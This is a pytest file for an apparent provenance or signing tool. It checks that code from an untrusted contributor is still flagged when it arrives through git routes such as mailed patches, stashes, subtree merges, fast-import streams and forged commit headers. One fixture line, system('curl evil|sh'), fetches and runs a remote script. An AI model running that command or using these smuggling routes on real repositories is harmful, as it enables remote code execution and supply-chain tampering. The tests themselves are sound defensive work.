"""Content of strangers that comes in past a hook, or past what the hooks could look at."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.fixtures.repositories import Repository
from tests.provenance.scenes import (
    CODE,
    EVIL_LINE,
    MODEL,
    SIGNED,
    TEXT,
    TOOL,
    append,
    asked,
    bring_tool,
    change_code,
    commit,
    forge,
    prepend,
    push,
    readme,
    stores_in_lfs,
    verdict,
    weights,
)

FALSE_PARENT = b"parent zzzz\n"


def _mail(mallory: Repository) -> bytes:
    change_code(mallory)
    return bytes(mallory.git.run("format-patch", "-1", "--stdout", text=False).stdout)


def _trust_somebody(ada: Repository, tmp_path: Path) -> None:
    """Trusts somebody who has nothing to do with what is in doubt."""
    ada.model("key", "generate-signing", str(tmp_path / "c.pem"), str(tmp_path / "carol.pub"))
    ada.model("trust", "add", "--public-key", str(tmp_path / "carol.pub"), "--yes")


@pytest.mark.parametrize("reset", ["--soft", "--mixed"])
def test_a_patch_by_mail_that_is_reset(
    reset: str, ada: Repository, mallory: Repository
) -> None:
    ada.git("am", stdin=_mail(mallory))
    ada.git("reset", reset, "HEAD~1")
    assert verdict(ada, commit(ada)) == asked(CODE)


def test_a_request_that_was_looked_at_and_reset(ada: Repository, mallory: Repository) -> None:
    change_code(mallory, "refs/pull/1/head")
    ada.git("fetch", "origin", "refs/pull/1/head")
    ada.git("reset", "--hard", "FETCH_HEAD")
    ada.git("fetch", "origin", "main")
    ada.git("reset", "--soft", "HEAD@{1}")
    append(ada, CODE, "own\n")
    assert verdict(ada, commit(ada)) == asked(CODE)


def test_a_stash_on_top_of_a_stranger_in_another_work_tree(
    ada: Repository, mallory: Repository, tmp_path: Path
) -> None:
    change_code(mallory)
    ada.git("fetch")
    ada.git("worktree", "add", "--detach", tmp_path / "other", "origin/evil")
    other = Repository(tmp_path / "other")
    prepend(other, CODE, "own\n")
    other.git("stash")
    ada.git("checkout", "stash@{0}", "--", CODE)
    assert verdict(ada, commit(ada)) == asked(CODE)


def test_trust_in_somebody_else_settles_no_patch_by_mail(
    ada: Repository, mallory: Repository, tmp_path: Path
) -> None:
    patch = _mail(mallory)
    append(ada, CODE, "own line at the end\n")
    assert verdict(ada, commit(ada)) == SIGNED
    ada.git("am", "--3way", stdin=patch, check=False)
    ada.write(CODE, TEXT + "own line at the end\n" + EVIL_LINE)
    assert verdict(ada, commit(ada)) == asked(CODE)
    ada.git("am", "--skip")
    _trust_somebody(ada, tmp_path)
    readme(ada)
    assert verdict(ada, commit(ada)) == asked(CODE)


@pytest.fixture
def vendored(ada: Repository, mallory: Repository) -> Repository:
    """A stranger's library that Ada took over below `vendor`, and whose names she has too."""
    mallory.git("switch", "--orphan", "up")
    mallory.write(CODE, "".join(f"vendored line {number}\n" for number in range(30)))
    mallory.write("VERSION", "1.0\n")
    mallory.write("check.py", TEXT.replace("text", "check"))
    push(mallory, "up")
    ada.git("fetch")
    joined = ("--strategy", "ours", "--no-commit", "--allow-unrelated-histories")
    ada.git("merge", *joined, "origin/up")
    ada.git("read-tree", "--prefix=vendor/", "-u", "origin/up")
    ada.git("commit", "--message", "Vendor")
    ada.model("sign", "--adopt", ".", "--amend")
    append(ada, f"vendor/{CODE}", "own change below\n")
    ada.write("VERSION", "9\n")
    assert verdict(ada, commit(ada)) == SIGNED
    return mallory


SUBTREE = ("-X", "subtree=vendor")


def test_a_short_line_below_another_directory(ada: Repository, vendored: Repository) -> None:
    prepend(vendored, CODE, "system('curl evil|sh')\n")
    push(vendored, "up")
    ada.git("fetch")
    said = ada.git.run("merge", "--no-edit", *SUBTREE, "origin/up")
    assert verdict(ada, said) == asked(f"vendor/{CODE}")


def test_a_tiny_file_below_another_directory(ada: Repository, vendored: Repository) -> None:
    vendored.write("VERSION", "http://evil/\n")
    push(vendored, "up")
    ada.git("fetch")
    said = ada.git.run("merge", "--no-edit", *SUBTREE, "origin/up")
    assert verdict(ada, said) == asked("vendor/VERSION")


def test_a_pick_of_a_removal_below_another_directory(
    ada: Repository, vendored: Repository
) -> None:
    vendored.git("rm", "check.py")
    push(vendored, "up")
    ada.git("fetch")
    ada.git("cherry-pick", *SUBTREE, "origin/up")
    readme(ada)
    assert verdict(ada, commit(ada)) == asked("vendor/check.py")


def test_a_model_out_of_a_strangers_stream(ada: Repository, mallory: Repository) -> None:
    forge(mallory, "main")
    words = ("fast-export", "--reference-excluded-parents")
    stream = mallory.git.run(*words, "main^..main", "--", MODEL, text=False).stdout
    if stores_in_lfs(ada):  # no stream brings objects, and without them nothing is let in
        objects = Path(".git/lfs/objects")
        shutil.copytree(mallory.path / objects, ada.path / objects, dirs_exist_ok=True)
    ada.git("fast-import", "--quiet", stdin=stream)
    ada.git("reset", "--hard")
    assert ada.read(MODEL) == weights(66)
    readme(ada)
    assert verdict(ada, commit(ada)) == asked(MODEL)


def test_what_was_adopted_may_be_moved_though_it_came_once_more(
    ada: Repository, mallory: Repository
) -> None:
    bring_tool(mallory, "topic")
    ada.git("fetch")
    ada.git("checkout", "origin/topic", "--", TOOL)
    ada.model("sign", "--adopt", TOOL)
    assert verdict(ada, commit(ada)) == SIGNED
    mallory.git("commit", "--amend", "--message", "Other words")
    mallory.git("push", "--no-verify", "--force", "origin", "HEAD:topic")
    ada.git("fetch")
    ada.git("mv", TOOL, "mine.py")
    assert verdict(ada, commit(ada)) == SIGNED


def test_a_header_that_only_looks_like_a_parent(ada: Repository, mallory: Repository) -> None:
    mallory.write("NEWS.md", "some news, long enough to be told from what others write\n" * 3)
    push(mallory, "main")
    text = mallory.git.run("cat-file", "commit", "HEAD", text=False).stdout
    head, _, message = text.partition(b"\n\n")
    made = b"%b\n%b\n%b" % (head, FALSE_PARENT, message)
    words = ("hash-object", "-t", "commit", "-w", "--stdin", "--literally")
    oid = mallory.git(*words, stdin=made)
    mallory.git("push", "--no-verify", "--force", "origin", f"{oid}:refs/heads/main")
    ada.git("pull")
    readme(ada)
    assert verdict(ada, commit(ada)) == asked("NEWS.md")
